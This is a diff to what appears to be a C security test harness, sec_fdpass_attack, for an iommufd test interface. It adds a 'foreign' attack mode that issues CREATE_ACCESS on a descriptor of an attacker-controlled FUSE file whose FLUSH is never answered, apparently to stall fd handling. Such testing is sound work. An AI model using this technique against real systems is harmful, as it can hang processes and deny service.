@@ -8,6 +8,9 @@
  *	reads the op waits for ever.
  *   sec_fdpass_attack straddle NODE BAIT
  *	the same with the op readable and the rest of the struct in BAIT.
+ *   sec_fdpass_attack foreign BAIT
+ *	(under uiommufd-exec) CREATE_ACCESS on a descriptor of BAIT (the
+ *	attacker's FUSE file whose FLUSH is never answered), not the node.
  *   sec_fdpass_attack sendfd SOCKET FILE
  *	hands the fd-passing socket a descriptor of FILE (the attacker's FUSE
  *	file whose FLUSH is never answered) instead of a seccomp listener:
@@ -110,6 +113,27 @@ static int attack_straddle(const char *node_path, const char *bait_path)
 	head[1] = IOMMU_TEST_OP_CREATE_ACCESS;
 	printf("started\n");
 	printf("returned %ld\n", (long)itest_ioctl(node, IOMMU_TEST_CMD, head));
+	return 0;
+}
+
+/*
+ * A CREATE_ACCESS made on BAIT itself instead of the node: whoever takes a
+ * copy of that fd to look at it must close it again (FLUSH).
+ */
+static int attack_foreign(const char *bait_path)
+{
+	int fd = open_retry(bait_path, O_RDONLY);
+	struct iommu_test_cmd cmd = {
+		.size = sizeof(cmd),
+		.op = IOMMU_TEST_OP_CREATE_ACCESS,
+	};
+
+	if (fd < 0) {
+		perror("open");
+		return 1;
+	}
+	printf("started\n");
+	printf("returned %ld\n", (long)itest_ioctl(fd, IOMMU_TEST_CMD, &cmd));
 	return 0;
 }
 
@@ -216,6 +240,8 @@ int main(int argc, char **argv)
 	setvbuf(stdout, NULL, _IOLBF, 0);
 	if (argc == 4 && !strcmp(argv[1], "stall"))
 		return attack_stall(argv[2], argv[3]);
+	if (argc == 3 && !strcmp(argv[1], "foreign"))
+		return attack_foreign(argv[2]);
 	if (argc == 4 && !strcmp(argv[1], "burst"))
 		return burst(argv[2], atoi(argv[3]));
 	if (argc == 4 && !strcmp(argv[1], "straddle"))
